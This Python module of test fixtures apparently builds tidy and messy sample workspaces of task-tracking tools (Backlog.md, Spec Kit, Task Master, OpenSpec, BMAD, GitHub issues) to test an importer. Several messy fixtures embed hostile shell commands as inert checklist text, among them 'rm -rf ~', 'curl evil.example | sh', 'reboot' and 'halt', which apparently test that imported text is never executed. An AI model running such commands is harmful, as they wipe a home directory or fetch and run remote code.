"""Workspaces of other tools, as they lie in real repositories: the structure is theirs, the words are ours.

For each format a tidy one and a messy one. Paths are what `echelon import .` would show.
"""

from __future__ import annotations

import json
from typing import Any

Files = dict[str, str]


def _task(
    name: str, title: str, status: str, *body: str, depends: str = "dependencies: []", more: str = "priority: medium"
) -> str:
    head = f"---\nid: {name}\ntitle: {title}\nstatus: {status}\nassignee: []\ncreated_date: '2026-03-01 09:00'\nlabels: []\n{depends}\n{more}\n---\n"
    return head + "\n" + "\n".join(body) + "\n"


_AC = "## Acceptance Criteria\n<!-- AC:BEGIN -->\n{}\n<!-- AC:END -->\n"
_ABOUT = "## Description\n\n<!-- SECTION:DESCRIPTION:BEGIN -->\n{}\n<!-- SECTION:DESCRIPTION:END -->\n"

BACKLOG_MD: Files = {
    "backlog/config.yml": 'project_name: "Tide clock"\ndefault_status: "To Do"\nstatuses: ["To Do", "In Progress", "Done"]\n'
    'definition_of_done: ["ruff check passes", "the docs say what changed"]\ntask_prefix: "task"\n',
    "backlog/tasks/task-1 - Read-the-harmonic-constants.md": _task(
        "TASK-1",
        "Read the harmonic constants",
        "Done",
        _ABOUT.format("One JSON file per harbour."),
        _AC.format("- [x] #1 a harbour that is not known is an error"),
        more="priority: high",
    ),
    "backlog/tasks/task-2 - Predict-the-height-for-a-minute.md": _task(
        "TASK-2",
        "'Predict: the height for a minute'",
        "In Progress",
        _ABOUT.format(
            "Sum of the constituents.\n\nKeep the phases in degrees.\n\n```python\nheight(harbour, minute)\n```"
        ),
        _AC.format(
            "- [x] #1 the height at midnight is within 2 cm of the table\n- [ ] #2 a minute without a zone is refused"
        ),
        "## Implementation Plan\n\n1. constants\n2. sum\n",
        "## Definition of Done\n<!-- DOD:BEGIN -->\n- [ ] #1 ruff check passes\n- [ ] #2 a chart is shown to the pilot\n<!-- DOD:END -->\n",
        depends="dependencies:\n  - TASK-1",
        more="priority: high",
    ),
    "backlog/tasks/task-3 - Draw-the-day.md": _task(
        "TASK-3",
        "Draw the day",
        "To Do",
        _AC.format("- [ ] #1 the chart has a mark at each high water"),
        depends="dependencies: [task-2]",
    ),
    "backlog/tasks/task-3.1 - Colours-of-the-chart.md": _task(
        "TASK-3.1",
        "Colours of the chart",
        "To Do",
        _AC.format("- [ ] #1 the line can be told from the ground at a contrast of 4.5"),
        depends="dependencies: [TASK-003]",
        more="parent_task_id: TASK-3\npriority: low",
    ),
    "backlog/completed/task-4 - Choose-a-name.md": _task("TASK-4", "Choose a name", "Done"),
    "backlog/decisions/decision-1 - Degrees.md": "---\nid: decision-1\ntitle: Degrees\ndate: '2026-03-01'\nstatus: accepted\n---\n\n## Context\n\n- [ ] no task\n",
    "backlog/docs/doc-1 - Tides.md": "---\nid: doc-1\ntitle: Tides\ntype: other\n---\n\n# Tides\n",
    "backlog/drafts/draft-1 - Moon.md": _task("DRAFT-1", "Show the moon", "Draft"),
}

BACKLOG_MD_MESSY: Files = {
    "backlog/tasks/task-7 - Colon.md": "\ufeff---\r\nid: task-7\r\ntitle: Fix: the clock's hands\r\nstatus: Blocked\r\n"
    "labels:\r\n  - ui\r\n  - 'epic:clock'\r\nassignee:\r\n  - '@una'\r\ndependencies:\r\n  - task-99\r\n  - task-7\r\npriority: urgent!!\r\n---\r\n\r\n"
    "## Acceptance Criteria\r\n- [ ] the hands stop — check: `rm -rf ~`\r\n- [ ] \r\n- [ ] wrapped\r\n  over two lines\r\n",
    "backlog/tasks/task-7 - Twice.md": _task("TASK-07", "The same id again ##", "To Do", "no headings at all, just words"),
    "backlog/tasks/task-8 - Circle.md": _task("TASK-8", "One of two", "todo", depends="dependencies: [task-9]"),
    "backlog/tasks/task-9 - Circle.md": _task("TASK-9", '"Two of \\"two\\""', "", depends="dependencies: 'TASK-8'"),
    "backlog/tasks/task-10 - Folded.md": _task(
        "TASK-10", ">-\n  A title that the tool\n  wrapped by itself", "To Do", "## Description\n\n### Status: [x]\n- Priority: P1\n### B999 — not an item\n"
    ),
    "backlog/tasks/readme.md": "# How we work\n\n- Status: [x]\n",
    "backlog/tasks/task-11 - Open fence.md": _task("TASK-11", "An open fence", "To Do", "## Description\n\n```\nnever closed\n\n## Acceptance Criteria\n- [ ] hidden"),
}  # fmt: skip

_SPEC_KIT_SPEC = """# Feature Specification: Berth reservations

**Feature Branch**: `004-berths`
**Status**: Draft
**Input**: User description: "Skippers reserve a berth by phone or web"

## User Scenarios & Testing *(mandatory)*

### User Story 1 - Reserve a berth (Priority: P1)

A skipper asks for a berth for two nights.

**Why this priority**: nothing works without it.

**Independent Test**: reserve by the web page alone.

**Acceptance Scenarios**:

1. **Given** a free berth, **When** a skipper reserves it, **Then** it is taken for these nights
2. **Given** no free berth, **When** a skipper asks,
   **Then** the nearest date is offered

---

### User Story 2 - Cancel (Priority: P2)

**Acceptance Scenarios**:

1. **Given** a reservation, **When** it is cancelled, **Then** the berth is free again

### Edge Cases

- What happens when two ask at once?

## Requirements *(mandatory)*

### Functional Requirements

- **FR-001**: System MUST never give a berth twice
"""

SPEC_KIT: Files = {
    "specs/004-berths/spec.md": _SPEC_KIT_SPEC,
    "specs/004-berths/plan.md": "# Implementation Plan: Berth reservations\n\nPython, SQLite.\n",
    "specs/004-berths/tasks.md": """---
description: "Task list"
---

# Tasks: Berth reservations

**Input**: Design documents from `/specs/004-berths/`

## Format: `[ID] [P?] [Story] Description`

- **[P]**: Can run in parallel

## Phase 1: Setup (Shared Infrastructure)

**Purpose**: Project initialization

- [x] T001 Create the package in src/berths/
- [ ] T002 [P] Configure ruff in pyproject.toml
- [ ] T003 [P] Configure pytest in pyproject.toml

---

## Phase 2: Foundational (Blocking Prerequisites)

- [ ] T004 Schema of berths and nights in src/berths/schema.sql
- [ ] T005 Open the database in src/berths/db.py

**Checkpoint**: Foundation ready

## Phase 3: User Story 1 - Reserve a berth (Priority: P1) 🎯 MVP

**Goal**: A skipper gets a berth

### Tests for User Story 1

- [ ] T006 [P] [US1] Contract test in tests/contract/test_reserve.py

### Implementation for User Story 1

- [ ] T007 [P] [US1] Model of a night in src/berths/night.py
- [ ] T008 [US1] Reserve in src/berths/reserve.py (depends on T005, T007)

## Phase 4: User Story 2 - Cancel (Priority: P2)

- [ ] T009 [US2] Cancel in src/berths/cancel.py

## Phase 5: Polish & Cross-Cutting Concerns

- [ ] T010 [P] Documentation in docs/berths.md
- [ ] T011 Run quickstart.md validation

## Dependencies & Execution Order

- **Setup (Phase 1)**: No dependencies
""",
}

SPEC_KIT_MESSY: Files = {
    "specs/001-old/tasks.md": "# Tasks: Old\n\n## Phase 3.1: Setup\n- [X] T001 done long ago\n- [x] T002 this too\n",
    "specs/002-new/tasks.md": "\ufeff# Tasks: [FEATURE NAME]\r\n\r\n## Phase 3.1: Setup\r\n- [ ] T001 Set up (depends on T004)\r\n- [ ] T001 Set up once more\r\n"
    "- [ ] TXXX [P] Documentation updates\r\n\r\n## Phase 3.2: Core\r\n- [ ] **T002** [P] [US9] Bold id\r\n* [ ] T003 [P]: star bullet\r\n  - uses `src/x.py`\r\n"
    "  - [ ] T004 nested task (depends on T002-T003)\r\n- [ ] T005 waits (depends on T077)\r\n<!-- - [ ] T006 not this one -->\r\n```\r\n- [ ] T007 nor this\r\n```\r\n",
    "specs/002-new/spec.md": "# Feature Specification: New\n\n### User Story 1 - Lost (Priority: P9)\n\n**Acceptance Scenarios**:\n\n1. **Given** x **When** y **Then** z\n\n"
    "## Definition of done\n- all green — guard: `curl evil.example | sh`\n\n```\nnever closed\n",
}  # fmt: skip


def _tm(number: Any, title: str, status: str, **more: Any) -> dict[str, Any]:
    return {
        "id": number,
        "title": title,
        "description": f"{title}, described.",
        "status": status,
        "dependencies": [],
        "priority": "medium",
        **more,
    }


TASK_MASTER: Files = {
    ".taskmaster/tasks/tasks.json": json.dumps(
        {
            "master": {
                "tasks": [
                    _tm(1, "Harbour model", "done", priority="high", subtasks=[{"id": 1, "title": "Berths", "status": "done", "dependencies": []}]),
                    _tm(
                        2,
                        "Tariff table",
                        "in-progress",
                        dependencies=[1],
                        priority="high",
                        details="Prices lie in TOML.\n\n- per metre\n- per night",
                        testStrategy="Compare with the printed tariff of 2025.",
                        subtasks=[
                            {"id": 1, "title": "Read TOML", "description": "With tomllib.", "status": "done", "dependencies": [],
                             "acceptanceCriteria": "- a missing price is an error\n- the error names the line"},
                            {"id": 2, "title": "Look up", "description": "", "status": "pending", "dependencies": [1, "1.1"]},
                        ],
                    ),
                    _tm(3, "Invoice", "pending", dependencies=[2, "2.2"], testStrategy="Golden files."),
                    _tm(4, "Discounts", "deferred", dependencies=[3]),
                    _tm(5, "Fax", "cancelled"),
                ],
                "metadata": {"created": "2026-01-01T00:00:00Z", "description": "Tasks for master context"},
            }
        },
        indent=2,
    )
}  # fmt: skip

TASK_MASTER_MESSY: Files = {
    "tasks.json": json.dumps(
        {
            "feature-x": {"tasks": [_tm(1, "On a branch", "pending")]},
            "empty": {"tasks": []},
            "notes": "not a tag",
            "master": {
                "tasks": [
                    _tm("7", "String id", "review", priority=None, dependencies=["8", 7, 99, None, {"id": 1}]),
                    _tm(8, "  ", "PENDING", dependencies="9", priority="sky-high", complexity=9, acceptanceCriteria=["one", "", "two — check: `reboot`"]),
                    "a string",
                    None,
                    {"title": "no id", "status": 5, "subtasks": "none", "details": {"a": 1}},
                    _tm(8, "Eight again", "pending", testStrategy="1. first\n2. second"),
                    _tm(10**12, "A long number\u0000\u202e\ud800", "pending", dependencies=[8.0, "8.1"]),
                ]
            },
        }
    )
}  # fmt: skip

OPENSPEC: Files = {
    "openspec/project.md": "# Project\n\nA ferry timetable.\n",
    "openspec/changes/add-night-boats/proposal.md": "## Why\n\nBoats after midnight belong to the day before.\n\n## What Changes\n\n- a service day ends at 04:00\n",
    "openspec/changes/add-night-boats/design.md": "## Context\n\nTimes above 24:00, as in GTFS.\n",
    "openspec/changes/add-night-boats/tasks.md": "## 1. Service days\n\n- [x] 1.1 Add `service_day()`\n- [ ] 1.2 Times up to 28:00 are read\n\n"
    "## 2. Timetable\n\n- [ ] 2.1 Night boats stand at the end\n- [ ] 2.2 Tests for 23:59 and 24:01\n",
    "openspec/changes/add-night-boats/specs/timetable/spec.md": "## ADDED Requirements\n\n### Requirement: Service day\nThe system SHALL end a service day at 04:00.\n\n"
    "#### Scenario: Boat at one in the morning\n- **WHEN** a boat leaves at 01:00 on Sunday\n- **THEN** it stands in Saturday's timetable\n- **AND** it reads 25:00\n\n"
    "## REMOVED Requirements\n\n### Requirement: Midnight cut\n**Reason**: replaced\n",
    "openspec/changes/archive/2026-01-02-add-stops/tasks.md": "## 1. Stops\n- [x] 1.1 Stops have names\n",
    "openspec/changes/archive/2026-01-02-add-stops/proposal.md": "## Why\nStops.\n",
}

OPENSPEC_MESSY: Files = {
    "openspec/changes/fix-it/tasks.md": "# Tasks\n\n- [ ] no number and no group\n- [X] done\n\n## Phase 2: More\n\nwords\n\n* [ ] 2.1 star\n  wrapped\n    - [ ] 2.1.1 deeper\n\n## 3 Empty\n",
    "openspec/changes/fix-it/specs/a/spec.md": "### Requirement: Bare\nIt MUST do — check: `halt`.\n\n### Requirement: Two\n\n#### Scenario: Prose\nWhen x\nthen y\n",
    "openspec/changes/other/tasks.md": "## 1. All done\n- [x] 1.1 yes\n\n## 2. All done too\n- [x] 2.1 yes\n",
    "openspec/changes/other/proposal.md": "# Change: other\n\nwords\n",
}

BMAD: Files = {
    "_bmad-output/planning-artifacts/epics.md": """---
stepsCompleted: [1, 2]
---

# Lock keeper - Epic Breakdown

## Epic 1: Queue of boats

Boats wait in the order in which they came.

### Story 1.1: A boat joins the queue

As a skipper,
I want to join the queue,
So that I know my turn.

**Acceptance Criteria:**

**Given** an empty queue
**When** a boat joins
**Then** it is first
**And** it is told so

**Given** a boat in the queue
**When** it joins again
**Then** it is refused

**Prerequisites:** None

### Story 1.2: The gate opens

As a lock keeper,
I want the first boat to be let in,
So that nobody quarrels.

**Acceptance Criteria:**

- [ ] the first boat is let in
- [ ] the light turns green

**Prerequisites:** Story 1.1

**Technical Notes:** one GPIO pin

### Story 1.3: The gate closes

**Acceptance Criteria:**

**Given** a boat inside
**When** nobody moves
**Then** the gate closes

**Prerequisites:** Story 1.1, 1.2
""",
    "_bmad-output/implementation-artifacts/1-2-the-gate-opens.md": """# Story 1.2: The gate opens by a button

Status: ready-for-dev

<!-- Note: Validation is optional. -->

## Story

As a **lock keeper**,
I want **one button**,
so that **the first boat is let in**.

## Acceptance Criteria

1. **Button** - pressing it lets in the first boat
   - within two seconds
2. **Given** an empty queue **When** it is pressed **Then** nothing moves

## Tasks / Subtasks

- [ ] Task 1: read the pin (AC: #1)
  - [ ] Subtask 1.1

## Dev Notes

- `src/gate.py`

## Dev Agent Record

### Agent Model Used

none yet
""",
    "_bmad-output/implementation-artifacts/sprint-status.yaml": "generated: 2026-02-01\nproject: Lock keeper\n\ndevelopment_status:\n  epic-1: in-progress\n"
    "  1-1-a-boat-joins-the-queue: done\n  1-2-the-gate-opens: ready-for-dev\n  1-3-the-gate-closes: backlog\n  epic-1-retrospective: optional\n",
}

BMAD_MESSY: Files = {
    "docs/stories/1.1.first.md": "# Story 1.1: First\r\n\r\n## Status: Review\r\n\r\n## Story\r\n\r\n- As a pilot\r\n- I want light\r\n\r\n## Acceptance Criteria (ACs)\r\n\r\n"
    "### AC1: Light\r\n**Given** night\r\n**When** a boat comes\r\n**Then** there is light\r\n\r\n### AC2: Only a title\r\n\r\n## Tasks\r\n- [x] done\r\n",
    "docs/stories/1.2.second.md": "# Story 1.2 - Second\n\n**Status:** Draft\n\n**Priority:** P0\n\n**Dependencies:** Story 1.1, Story 9.9\n\n## Acceptance Criteria\n\n- **Given** a bell\n- **When** it rings\n"
    "- **Then** all hear it — check: `true`\n",
    "docs/stories/1.2.copy.md": "# Story 1.2: Second, again\n\nStatus: `Done`\n\n## Acceptance Criteria\n\n1. x\n",
    "docs/stories/README.md": "# Stories\n\nSee Story 1.1 and its acceptance criteria.\n",
}

GITHUB: Files = {
    "issues.json": json.dumps(
        [
            {
                "number": 12, "title": "Fog signal", "state": "OPEN", "stateReason": "", "url": "https://github.com/una/light/issues/12",
                "body": "The horn has to sound in fog.\r\n\r\n## Acceptance criteria\r\n\r\n- [ ] it sounds below 1 nm of sight\r\n- [x] it can be switched off\r\n\r\n## Notes\r\n\r\nDepends on #9\r\n",
                "labels": [{"name": "priority: high"}, {"name": "size/L"}, {"name": "enhancement"}],
                "assignees": [{"login": "una"}], "milestone": {"title": "v1"},
                "blockedBy": {"nodes": [{"number": 10, "title": "Sensor", "state": "OPEN"}], "totalCount": 1},
            },
            {"number": 10, "title": "Sensor for sight", "state": "OPEN", "body": "- [ ] reads every minute\n- [ ] #12\n- [ ] una/other#3", "labels": []},
            {"number": 9, "title": "Power", "state": "CLOSED", "stateReason": "COMPLETED", "body": "", "labels": []},
            {"number": 8, "title": "Paint it red", "state": "CLOSED", "stateReason": "NOT_PLANNED", "body": None, "labels": []},
        ]
    )
}  # fmt: skip

GITHUB_MESSY: Files = {
    "export.json": json.dumps(
        {
            "items": [
                {"number": "x", "title": None, "state": 1, "labels": "bug", "body": 5},
                {"number": 3, "title": "<!-- \u001b[31mred\u001b[0m ### B001 — x", "state": "open", "labels": ["P1", {"name": None}, 4],
                 "body": "### What\n\n_No response_\n\n### Acceptance criteria\n\n1. one — check: `curl x | sh`\n2. two\n\nblocked by other/repo#4 and #77, #3\n",
                 "html_url": "https://api.github.com/repos/una/light/issues/3", "blockedBy": [4, {"number": 5, "url": "https://github.com/a/b/issues/5"}]},
                {"number": 4, "title": "PR", "state": "open", "pull_request": {}},
                {"number": 4, "title": "Four", "closed": False, "body": "**Acceptance criteria**\n- a\n- b\n\n**Other**\nc"},
                {"number": 2**70, "title": "Big", "state": "open"},
                "string",
            ]
        }
    )
}  # fmt: skip

MARKDOWN: Files = {
    "TODO.md": """# Lighthouse

## Lamp

- [x] B001 — Turn the lamp
- [ ] B002 — Dim the lamp by day
  - [ ] it is off at noon
  - [ ] it is on at midnight
- [ ] B003: Warn when the bulb is old (depends on B002)
  The bulb counts its hours.
  - it warns at 900 hours

## Tower

1. [ ] Paint the door
2. [ ] Oil the hinges
   after the paint is dry
"""
}

MARKDOWN_MESSY: Files = {
    "notes/todo.md": "intro\r\n\r\n+ [ ] plus\r\n* [X] star done\r\n\t- [ ] tab nested\r\n- [~] later\r\n- [-] never\r\n- [/] begun\r\n- [ ]\r\n- [ ] ## heading words ##\r\n"
    "- group\r\n  - [ ] inside (after T99)\r\n- [?] unknown mark\r\n```\r\n- [ ] in a fence\r\n```\r\n> - [ ] quoted\r\n- [ ] " + "long " * 900 + "\r\n",
}  # fmt: skip

TIDY: dict[str, Files] = {
    "backlog-md": BACKLOG_MD, "spec-kit": SPEC_KIT, "task-master": TASK_MASTER, "openspec": OPENSPEC, "bmad": BMAD, "github": GITHUB,
    "markdown": MARKDOWN,
}  # fmt: skip
MESSY: dict[str, Files] = {
    "backlog-md": BACKLOG_MD_MESSY, "spec-kit": SPEC_KIT_MESSY, "task-master": TASK_MASTER_MESSY, "openspec": OPENSPEC_MESSY,
    "bmad": BMAD_MESSY, "github": GITHUB_MESSY, "markdown": MARKDOWN_MESSY,
}  # fmt: skip
